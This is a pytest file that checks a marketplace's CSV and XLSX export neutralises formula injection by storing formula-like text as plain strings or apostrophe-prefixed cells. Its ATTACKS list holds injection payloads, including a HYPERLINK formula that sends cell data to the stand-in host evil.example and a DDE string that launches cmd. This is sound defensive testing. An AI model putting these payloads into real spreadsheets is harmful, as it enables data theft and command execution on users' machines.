"""Exports never hold a live formula (issue 21): text that starts like one is a string cell in XLSX and starts with
an apostrophe in CSV; numbers, dates and ordinary text are written as before."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from marketplace.spreadsheets import Table, to_csv, to_xlsx

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_starts_like_a_formula_is_inert_text(text):
    table = Table("t", ["name", "amount"], rows=[[text, Decimal("-5.00")]], totals=[text, None])

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    for row in (2, 3):
        cell = sheet.cell(row=row, column=1)
        # The same text (XML reads a carriage return back as a line feed), as a string: never a formula.
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")
    assert sheet.cell(row=2, column=2).value == -5  # a number stays a number

    _header, row, totals = csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline=""))
    assert row == ["'" + text, "-5.00"] and totals[0] == "'" + text


def test_ordinary_text_numbers_and_dates_are_unchanged():
    table = Table("t", ["name", "day", "rate"], rows=[["西湖精密电机 — A-1", dt.date(2026, 12, 5), Decimal("0.0345")]])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
    assert [c.value for c in sheet[2]][0] == "西湖精密电机 — A-1"
    assert sheet.cell(row=2, column=2).is_date
    assert list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))[1] == [
        "西湖精密电机 — A-1", "2026-12-05", "0.0345"]
